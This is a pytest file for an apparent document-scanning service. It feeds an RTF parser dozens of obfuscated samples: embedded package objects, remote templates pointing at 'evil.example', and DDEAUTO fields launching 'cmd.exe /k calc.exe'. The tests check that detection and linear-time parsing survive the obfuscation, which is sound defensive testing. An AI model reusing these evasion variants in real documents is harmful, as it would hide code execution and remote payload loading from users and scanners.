"""Templates, fields and objects in RTF are read as programs read them, whatever RTF syntax is in and around them."""

from __future__ import annotations

import struct

import pytest

from bridge.service.analysis.content.rtf_destinations import _TOKEN_WORK
from bridge.service.analysis.content.rtf_files import embedded, read_rtf
from bridge.service.analysis.content.unpacking import Budget
from tests.long_cases import few
from tests.processor_time import fair_cpu_s, is_linear
from tests.service.test_service_documents import PACKAGE, tags

OBJECT = struct.pack("<III", 0x501, 2, 8) + b"Package\0" + bytes(8) + struct.pack("<I", len(PACKAGE)) + PACKAGE[4:]
DIGITS = OBJECT.hex().encode()
HALF, BYTE = DIGITS[:41], DIGITS[:40]  # with and without a digit that waits for another one
AFTER_HALF, AFTER_BYTE = DIGITS[41:], DIGITS[40:]

OBJECTS = {
    "plain": b" " + DIGITS,
    "a number": b"1 " + DIGITS,
    "a long number": b"12345 " + DIGITS,
    "a number without a space": b"1\r\n" + DIGITS,
    "a negative number": b"-1 " + DIGITS,
    "a digit too many": b" 7" + DIGITS,
    "a word with a long number": b" " + BYTE + b"\\par" + b"1" * 12 + b" " + AFTER_BYTE,
    "a word with a very long number": b" " + BYTE + b"\\par" + b"1" * 9000 + b" " + AFTER_BYTE,
    "a long word": b" " + BYTE + b"\\" + b"a" * 41 + b" " + AFTER_BYTE,
    "a word within a byte": b" " + HALF + b"\\par " + AFTER_HALF,
    "a code": b" " + BYTE + b"\\'61" + AFTER_BYTE,
    "a code that ends a byte": b" " + BYTE + b"4\\'61" + AFTER_BYTE,
    "a character that is skipped": b" " + BYTE + b"\\u48 f" + AFTER_BYTE,
    "characters that are skipped": b" \\uc3 " + HALF + b"\\u-48 ffe" + AFTER_HALF,
    "no character that is skipped": b" " + BYTE + b"\\u48 " + AFTER_BYTE,
    "binary data": b" " + BYTE + b"\\bin%d " % (len(OBJECT) - 20) + OBJECT[20:],
    "binary data with zeros": b" " + BYTE + b"\\bin0000000000000%d " % (len(OBJECT) - 20) + OBJECT[20:],
    "binary data within a byte": b" " + HALF[:40] + b"f\\bin%d " % (len(OBJECT) - 20) + OBJECT[20:],
    "no binary data": b" " + BYTE + b"\\bin0 " + AFTER_BYTE,
    "less than no binary data": b" " + BYTE + b"\\bin-5 " + AFTER_BYTE,
    "more binary data than there is": b" " + BYTE + b"\\bin2147483647 " + AFTER_BYTE,
    "a group that is ignored": b" " + BYTE + b"{\\*\\x 99}" + AFTER_BYTE,
    "a group": b" {" + BYTE + b"}" + AFTER_BYTE,
    "a group, and one that is ignored": b" {" + BYTE + b"}{\\*\\x 99}" + AFTER_BYTE,
    "an object in it": b" 99{\\*\\objdata " + DIGITS + b"}",
    "the beginning of an object around it": b" " + BYTE + b"{\\*\\objdata " + AFTER_BYTE + b"}",
    "the word twice": b" " + BYTE + b"\\objdata " + AFTER_BYTE,
    "the word again": b" 99\\objdata1 " + DIGITS,
}


def with_object(digits: bytes) -> bytes:
    return b"{\\rtf1{\\object\\objemb{\\*\\objdata" + digits + b"}}}"


@pytest.mark.parametrize("kind", OBJECTS)
def test_rtf_syntax_hid_a_file_in_an_object(kind: str) -> None:
    """Digits of a number counted as the first ones of the object, for example."""
    assert {"office:embedded-file", "malware:eicar"} <= tags(with_object(OBJECTS[kind]), "a.doc")


@pytest.mark.parametrize("number", [b"", b"1", b"-1"])
def test_an_ordinary_object_is_read_once(number: bytes) -> None:
    found = read_rtf(with_object(number + b" " + DIGITS[:100] + b"\r\n" + DIGITS[100:]), Budget()).objects
    assert [item.class_name for destination in found for item in embedded(destination)] == ["package"]


def escaped(text: bytes, form: bytes) -> bytes:
    return b"".join(form % code for code in text)


ADDRESS = b"https://evil.example/a.dotm"
TEMPLATES = {
    "plain": b"\\template " + ADDRESS,
    "a number": b"\\template1 " + ADDRESS,
    "many spaces": b"\\template" + b" " * 30 + ADDRESS,
    "a line end": b"\\template https://evil.\r\nexample/a.dotm",
    "codes": b"\\template " + escaped(ADDRESS, b"\\'%02x"),
    "Unicode": b"\\template " + escaped(ADDRESS, b"\\u%d?"),
    "Unicode and a letter": b"\\template " + escaped(ADDRESS, b"\\u%dX"),
    "Unicode and a code": b"\\template " + escaped(ADDRESS, b"\\u%d \\'3f"),
    "Unicode and a brace": b"\\template " + escaped(ADDRESS, b"\\u%d \\{"),
    "Unicode and a word": b"\\template " + escaped(ADDRESS, b"\\u%d\\b "),
    "Unicode alone": b"\\uc0\\template " + escaped(ADDRESS, b"\\u%d "),
    "Unicode alone, without saying so": b"\\template " + escaped(ADDRESS, b"\\u%d "),
    "Unicode with zeros": b"\\template " + escaped(ADDRESS, b"\\u%07d?"),
    "negative Unicode": b"\\template " + b"".join(b"\\u%d?" % (code - 65536) for code in ADDRESS),
    "a group": b"\\template {" + ADDRESS + b"}",
    "a group that is ignored": b"\\template {\\*\\x y}" + ADDRESS,
    "an ignored group with braces": b"\\template {\\*\\x \\}{y}\\'7d}" + ADDRESS,
    "an empty group": b"\\template http{}s://evil.example/a.dotm",
    "a paragraph": b"\\template \\par " + ADDRESS,
    "other text for Unicode": b"\\template {\\upr{x}{\\*\\ud{" + ADDRESS + b"}}}",
    "binary data": b"\\template http\\bin3 }}}s://evil.example/a.dotm",
}


@pytest.mark.parametrize("kind", TEMPLATES)
def test_rtf_syntax_hid_a_remote_template(kind: str) -> None:
    content = b"{\\rtf1{\\*" + TEMPLATES[kind] + b"}text}"
    assert {"office:remote-template", "host:evil.example"} <= tags(content, "a.rtf")


PROGRAM = b' c:\\\\\\\\windows\\\\\\\\system32\\\\\\\\cmd.exe "/k calc.exe"'
FIELDS = {
    "plain": b"\\fldinst{ DDEAUTO",
    "a number": b"\\fldinst1{ DDEAUTO",
    "a number and no group": b"\\fldinst-1 {}DDEAUTO",
    "Unicode and a letter": b"\\fldinst{\\u68XDEAUTO",
    "Unicode and a code": b"\\fldinst{\\u68 \\'44\\u68 \\'44\\u69 \\'45AUTO",
    "Unicode and two characters": b"\\uc2\\fldinst{\\u68??\\u68 ?\\'3f\\u69??AUTO",
    "as many as around it": b"\\uc2{\\uc5}\\fldinst{{\\uc0}\\u68??\\u68??\\u69??AUTO",
    "as many as in no binary data": b"\\uc2{\\bin6 }\\uc7 x}\\fldinst{\\u68??\\u68??\\u69??AUTO",
    "as many as in no escaped group": b"\\uc2 \\{\\uc2 \\}\\}\\\\{\\uc3}\\fldinst{\\u68??DEAUTO",
    "a bookmark": b"\\fldinst{ DD}{\\*\\bkmkstart q}{EAUTO",
    "an unknown destination": b"\\fldinst{ D{\\*\\xyz garbage}DEAUTO",
    "an unknown destination first": b"\\fldinst{{\\*\\xyz garbage}DDEAUTO",
    "a picture": b"\\fldinst{ D{\\pict 00}DEAUTO",
    "a field before it": b"\\fldinst{{\\field{\\*\\fldinst QUOTE}{\\fldrslt x}}DDEAUTO",
    "no binary data": b"\\fldinst{D\\bin0 DEAUTO",
    "binary data": b"\\fldinst{D\\bin2 {{DEAUTO",
    "a tab": b"\\fldinst{ DDEAUTO\\tab",
    "groups": b"\\fldinst{ {\\b DD}{\\i E\\'41UTO}",
    "much before it": b"\\fldinst{" + b"\\b " * 30_000 + b"DDEAUTO",
}


@pytest.mark.parametrize("kind", FIELDS)
def test_rtf_syntax_hid_a_field_that_starts_a_program(kind: str) -> None:
    content = b"{\\rtf1{\\field{\\*" + FIELDS[kind] + PROGRAM + b"}}{\\fldrslt x}}}"
    assert "office:dde" in tags(content, "a.rtf")


@pytest.mark.parametrize(
    "word", [b"template https://evil.example/a.dotm", b"fldinst DDEAUTO cmd", b"objdata " + DIGITS]
)
def test_binary_data_hides_nothing(word: bytes) -> None:
    """A program that does not know binary data reads it as text."""
    content = b"{\\rtf1{\\pict\\bin%d {\\*\\%b}}}" % (len(word) + 5, word)
    assert tags(content, "a.rtf") & {"office:remote-template", "office:dde", "malware:eicar"}


HARMLESS = {
    "a template": b"{\\*\\template C:\\\\Templates\\\\Normal.dotm}",
    "a template in Unicode": b"{\\*\\template C:\\\\\\u1060\\'d4\\u1072\\'e0.dotm}",
    "a template on a server": b"{\\*\\template \\\\\\\\server\\\\templates\\\\a.dotm}",
    "a link as text behind a template": b"{\\*\\template a.dotm}{https://evil.example/a.dotm}",
    "another word": b"{\\*\\templates https://a.example/}{\\*\\fldinstx DDEAUTO cmd}",
    "a word with a backslash": b"\\\\template https://a.example/ \\\\fldinst DDEAUTO cmd",
    "a field": b'{\\field{\\*\\fldinst1 HYPERLINK "https://a.example/"{\\*\\datafield 00d0}}{\\fldrslt DDEAUTO cmd}}',
    "a title of DDE": b'{\\field{\\*\\fldinst QUOTE "a"\\par DDE cmd.exe}{\\fldrslt x}}',
    "what is skipped": b"{\\field{\\*\\uc7\\fldinst \\u8211 DDEAUTOPAGE}{\\fldrslt x}}",
}


@pytest.mark.parametrize("kind", HARMLESS)
def test_ordinary_rtf_has_no_tag(kind: str) -> None:
    found = tags(b"{\\rtf1\\uc1 " + HARMLESS[kind] + b"}", "a.rtf")
    assert {tag for tag in found if not tag.startswith("host:")} == set()


def test_fields_are_read_as_before() -> None:
    text = (
        b'{\\rtf1\\ansi\\uc1{\\field{\\*\\fldinst {\\f1  HYPERLINK "https://a.example/x\\\\\\\\y"\r\n \\\\t "_blank" }}'
        b"{\\fldrslt {\\ul text}}}{\\field{\\*\\fldinst  PAGE   \\\\* MERGEFORMAT }{\\fldrslt 1}}"
        b"{\\field{\\*\\fldinst SEQ \\u1088\\'f0}{\\fldrslt 1}}}"
    )
    assert read_rtf(text, Budget()).fields.split("\n") == [
        ' HYPERLINK "https://a.example/x//y" /t "_blank" ',
        " PAGE   /* MERGEFORMAT ",
        "SEQ \u0440",
    ]


UNITS = (
    *(b"{", b"}", b"{}", b"\\uc1 ", b"\\bin1 ", b"\\bin99999999 ", b"\\\\", b"\\u68", b"\\u68X", b"\\'41", b"0", b"0 "),
    *(
        b"{\\fldinst",
        b"\\fldinst",
        b"{\\objdata 0",
        b"\\objdata",
        b"{\\*\\x 0}",
        b"{\\upr{a}{\\*\\ud b}}",
        b"\\template",
    ),
    *(b"\\\\objdata", b"\\bin9 \\objdata "),
)


@pytest.mark.parametrize("begin", few([b"", b"{\\objdata {\\template ", b"{\\objdata ", b"{\\fldinst "], 2))
def test_no_syntax_takes_quadratic_time(begin: bytes) -> None:
    def read(content: bytes) -> None:
        for found in read_rtf(content, Budget(work=10**12)).objects:
            list(found.objects())

    for unit in UNITS:
        short, long = (b"{\\rtf1 " + begin + unit * count + b"{\\template x}" for count in (2_000, 8_000))
        assert is_linear(read, short, long), unit


@pytest.mark.parametrize("unit", few(UNITS, 2))
@pytest.mark.parametrize("begin", [b"", b"{\\fldinst ", b"{\\objdata "])
def test_all_syntax_is_charged(begin: bytes, unit: bytes) -> None:
    """About two seconds for all of the budget, on a quiet machine; this is a ninth of it."""
    content = b"{\\rtf1 " + begin + unit * 400_000 + b"{\\template x}"
    quickest = min(fair_cpu_s(lambda: read_rtf(content, Budget(work=_TOKEN_WORK * 100_000))) for _ in range(2))
    assert quickest < 1


def test_what_was_found_before_a_limit_counts() -> None:
    content = b"{\\rtf1{\\*\\template https://evil.example/a.dotm}{\\objdata " + b"\\a " * 2_000_000
    assert {"office:remote-template", "limit:archive-work"} <= tags(content, "a.rtf")
